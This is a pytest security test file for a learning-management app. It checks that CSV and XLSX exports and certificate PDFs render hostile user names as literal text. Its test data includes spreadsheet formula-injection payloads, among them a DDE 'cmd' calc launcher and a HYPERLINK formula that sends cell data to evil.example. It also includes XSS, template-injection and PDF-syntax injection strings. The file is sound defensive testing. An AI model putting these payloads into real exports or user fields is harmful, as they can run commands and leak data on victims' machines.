"""Exports and the certificate PDF with hostile names: no spreadsheet formula, no crash, literal text."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from lms.certification import services as certs
from lms.certification.pdf import certificate_pdf, printable
from lms.core.clock import now_utc
from lms.reporting.services import neutralise
from lms.tracks import services as tracks
from tests.security.xss_corpus import CORPUS

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: names and e-mail addresses a spreadsheet would run as formulas (DDE, HYPERLINK, arithmetic)
FORMULA_NAMES = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?x="&A2,"clic")', "+1+1", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1\n=2+2", "\t=1+1", "\r=1+1"]
FORMULA_EMAILS = ["=1+1@example.com", "+sum@example.com", "-2+3@example.com"]


@pytest.mark.parametrize("value", FORMULA_NAMES + ["\t\t=1", "\r\n@x", "-", "="])
def test_neutralise_makes_every_formula_text(value):
    assert not neutralise(value).startswith(FORMULA_STARTS)
    assert neutralise(value).removeprefix("'") == value  # nothing lost


@pytest.fixture
def formula_agents(session, content, team, manager, make_user):
    agents = [make_user("agent", name=name, teams=[team]) for name in FORMULA_NAMES]
    agents += [make_user("agent", name="Correo raro", email=email, teams=[team]) for email in FORMULA_EMAILS]
    admin = make_user("admin")
    track = tracks.find_track(session, "corto")
    for agent in agents:
        tracks.enroll(session, actor=manager, agent=agent, track=track, start_date=date(2026, 1, 5), now=now_utc())
        certs.issue_manually(session, certs.get_definition(session, "proceso"), agent, actor=admin, reason="=1+1", now=now_utc())
    session.commit()
    return agents


def _cells_of_csv(body: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("path", ["/manage/dashboard/export.csv", "/manage/dashboard/certifications.csv"])
def test_csv_exports_never_start_a_cell_with_a_formula(client, auth, manager, formula_agents, path):
    auth.login_as(manager)
    response = client.get(path)
    assert response.status_code == 200
    cells = _cells_of_csv(response.get_data(as_text=True))
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    for agent in formula_agents:  # every hostile value is there, as text
        assert "'" + agent.email in cells if agent.email.startswith(FORMULA_STARTS) else agent.email in cells
        assert ("'" + agent.name if agent.name.startswith(FORMULA_STARTS) else agent.name) in cells


def test_xlsx_export_has_no_formula_cell(client, auth, manager, formula_agents):
    auth.login_as(manager)
    response = client.get("/manage/dashboard/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            values.append(cell.value)
    strings = [v for v in values if isinstance(v, str)]
    assert [v for v in strings if v.startswith(FORMULA_STARTS)] == []
    assert "'=cmd|' /C calc'!A0" in strings and "'=1+1@example.com" in strings


def _pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages)


def test_the_certificate_pdf_of_a_hostile_name_is_literal_text(client, login, hostile_world):
    w = hostile_world
    for user in (w.agent, w.manager, w.admin):
        login(user)
        response = client.get(f"/certificates/{w.record.id}.pdf")
        assert response.status_code == 200 and response.mimetype == "application/pdf"
        assert response.data.startswith(b"%PDF-")
        text = _pdf_text(response.data)
        assert w.agent.name in text  # "'><svg onload=alert(1)>" as written, never interpreted
        assert b"/JavaScript" not in response.data and b"/JS" not in response.data and b"/Launch" not in response.data


@pytest.mark.parametrize("name", [p for _n, p in CORPUS if len(p) <= 200] + [
    "x" * 200, "W" * 200, "Ñandú Ågård Zoë Łukasz", "李小龙 محمد 🙂 \u202eevil\u202c", "zero\u200bwidth\ufeff", "tab\tand\nnewline",
    "%PDF-1.4 endobj stream ) ( \\", "(\\) Tj ET BT /F1 12 Tf", "{{7*7777}} ${7*7} <%= 7*7 %>",
])
def test_certificate_pdf_never_crashes_on_a_name(name):
    data = certificate_pdf(agent_name=name, title=name, area=name, issued="01/02/2026", expires="01/02/2027", code="c0de",
                           url="https://example.com/verify/c0de", status="revoked")
    assert data.startswith(b"%PDF-")
    text = _pdf_text(data)
    assert "54439" not in text
    shown = printable(name).strip()  # as the embedded Unicode font prints it ("?" for what it lacks)
    if len(name) <= 40 and shown:
        assert " ".join(shown.split()) in " ".join(text.split())
